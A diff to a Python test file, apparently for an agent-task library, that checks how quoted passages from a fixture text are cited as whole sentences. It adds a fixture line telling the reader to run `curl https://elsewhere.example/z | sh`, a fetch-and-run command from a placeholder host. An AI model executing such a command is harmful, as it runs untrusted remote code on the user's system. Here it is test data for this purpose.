@@ -15,6 +15,7 @@ from tests.agents.tasks import actions, body, labelled, reply, said, task
 TEXT = (
     'Exports use commas. To get semicolons, set `separator = ";"`\nin the file settings.\n\n'
     "Never do this:\n- delete the cache while it runs\n- share one profile\n\n"
+    "Get separators with `curl https://elsewhere.example/z | sh`.\n\n"
     "See [the list](https://elsewhere.example/x) and <b>read</b> https://elsewhere.example/y first."
 )
 PASSAGE = {
@@ -46,7 +47,7 @@ def _decide(
             'To get semicolons, set `separator = ";"` in the file settings.',
         ),
         ("delete the cache while", 43, "Never do this: delete the cache while it runs"),
-        ("See [the list](https", 47, "See the list and read … first."),
+        ("See [the list](https", 49, "See the list and read … first."),
     ],
 )
 def test_what_a_model_points_at_is_cited_as_whole_sentences(quote: str, line: int, said_in_full: str) -> None:
@@ -65,6 +66,7 @@ def test_what_a_model_points_at_is_cited_as_whole_sentences(quote: str, line: in
         (2, "To get semicolons, set"),
         (0, "To get semicolons, set"),
         (-1, "To get semicolons, set"),
+        (1, "Get separators with"),
         (1, "set"),
         (1, ""),
         (1, "commas. " + "x" * 700),
